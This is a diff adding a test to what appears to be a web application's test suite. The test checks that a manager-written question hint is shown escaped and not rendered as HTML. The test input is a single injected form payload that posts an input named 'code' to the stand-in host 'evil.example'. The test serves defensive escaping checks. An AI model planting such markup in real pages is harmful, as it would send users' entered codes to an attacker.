@@ -316,3 +316,13 @@ def test_the_terms_come_before_the_first_request(client, mother):
     acceptance = mother.terms_acceptances.get()
     assert (acceptance.version, acceptance.by) == (1, mother.account)
     assert client.get("/apply/").status_code == 200
+
+
+def test_a_hint_is_words_and_no_markup(phone, case):
+    """What a manager writes beside a question is shown as it stands."""
+    question = case.programme.questions.first()
+    question.hint = '<form action="//evil.example"><input name=code>'
+    question.save()
+    page = phone.get(url(case, "question", question.code))
+    assert "&lt;form action=" in page.content.decode()
+    assert '<form action="//evil.example">' not in page.content.decode()
